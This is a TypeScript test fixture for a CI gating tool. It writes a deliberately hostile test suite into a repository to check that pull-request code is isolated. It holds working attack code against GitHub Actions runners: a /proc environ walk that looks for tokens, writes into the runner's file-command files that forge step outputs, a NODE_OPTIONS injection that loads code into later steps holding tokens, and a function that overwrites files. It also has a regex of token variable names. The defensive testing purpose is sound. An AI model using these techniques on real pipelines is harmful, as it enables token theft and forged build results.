// The suite of the isolation replays (issue 43): PR code that looks for a token and for a way to set
// benchgate's outputs or reach the steps after its own. `ancestors.mjs` walks PPid from the suite up to
// STOP_PID (the test's process: the runner's place), reading each ancestor's /proc/<pid>/environ, and
// writes verdict=promote into every GITHUB_OUTPUT it finds there. `hostile.sh` does what a step can do
// on a real runner whatever its environment holds: actions/runner keeps every step's runner files in
// RUNNER_TEMP/_runner_file_commands/ (src/Runner.Worker/FileCommandManager.cs) and reads them after
// the step, so it writes verdict=promote into each, and into the GITHUB_ENV file a NODE_OPTIONS that
// makes any later node (the deliver step's, which holds the artifact service's token) note what it
// holds in `pwned` and write verdict=promote to its own GITHUB_OUTPUT; and `rewrite_base` replaces
// every file of ../base it can reach.
import { writeFileSync } from 'node:fs';
import { join } from 'node:path';

/** Exits 1 when an ancestor holds a token or runner file, or the walk did not reach STOP_PID. */
export const ANCESTORS = `
import { appendFileSync, readFileSync } from 'node:fs';
const bad = /^(ACTIONS_.*|INPUT_GITHUB-TOKEN|GITHUB_TOKEN|GH_TOKEN|GH_ENTERPRISE_TOKEN|GITHUB_ENTERPRISE_TOKEN|BENCHGATE_HANDOFF_KEY|GITHUB_OUTPUT|GITHUB_ENV|GITHUB_STATE|GITHUB_PATH|GITHUB_STEP_SUMMARY)$/i;
const stop = Number(process.env.STOP_PID || process.argv[2]);
const found = [];
let pid = process.pid, checked = 0, reached = false;
while (pid > 1) {
  if (pid === stop) { reached = true; break; }
  for (const kv of readFileSync('/proc/' + pid + '/environ', 'utf8').split('\\0').filter(Boolean)) {
    const name = kv.slice(0, kv.indexOf('='));
    if (bad.test(name)) found.push(pid + ':' + name);
    if (name.toUpperCase() === 'GITHUB_OUTPUT') appendFileSync(kv.slice(kv.indexOf('=') + 1), 'verdict=promote\\n');
  }
  checked++;
  pid = Number(/^PPid:\\s*(\\d+)/m.exec(readFileSync('/proc/' + pid + '/status', 'utf8'))[1]);
}
console.log('ancestors checked: ' + checked + ', reached the runner: ' + reached + ', holding a token or runner file: ' + (found.join(' ') || 'none'));
if (found.length > 0 || !reached) process.exit(1);
`;

/** What the injected NODE_OPTIONS loads into a later step's node. */
const EVIL_CJS = `
const fs = require('node:fs');
const held = Object.keys(process.env).filter((n) => /^(ACTIONS_RUNTIME_TOKEN|INPUT_GITHUB-TOKEN)$/i.test(n) && process.env[n] !== '');
fs.appendFileSync(process.env.PWNED_FILE, 'a later node ran the suite\\'s code, holding: ' + (held.join(' ') || 'nothing') + '\\n');
if (process.env.GITHUB_OUTPUT) fs.appendFileSync(process.env.GITHUB_OUTPUT, 'verdict=promote\\n');
`;

/** bash: the runner files of the suite's own step, found by listing the runner's folder, written as a hostile suite would. */
export const HOSTILE = `
here=$(cd "$(dirname "\${BASH_SOURCE[0]}")" && pwd)
for f in "$RUNNER_TEMP"/_runner_file_commands/*; do
  [ -f "$f" ] || continue
  case "$(basename "$f")" in
    set_env_*) printf 'NODE_OPTIONS=--require %s\\nPWNED_FILE=%s\\n' "$here/evil.cjs" "$here/pwned" >> "$f" ;;
    *) echo verdict=promote >> "$f" ;;
  esac
  echo "hostile: wrote to $(basename "$f")"
done
rewrite_base() { [ -d "$1" ] && find "$1" -path '*/.git' -prune -o -type f -print | while read -r f; do echo 'echo rewritten by the head' > "$f" || true; done; true; }
`;

/** ancestors.mjs, hostile.sh and evil.cjs, by file name (for a commit of a played repository). */
export const HOSTILE_FILES: Readonly<Record<string, string>> = { 'ancestors.mjs': ANCESTORS, 'hostile.sh': HOSTILE, 'evil.cjs': EVIL_CJS };

/** Writes HOSTILE_FILES into `dir`. */
export function writeHostileSuite(dir: string): void {
  for (const [name, text] of Object.entries(HOSTILE_FILES)) writeFileSync(join(dir, name), text);
}

/** The scan's line when it passed. */
export const CLEAN_SCAN = /ancestors checked: [1-9]\d*, reached the runner: true, holding a token or runner file: none/;
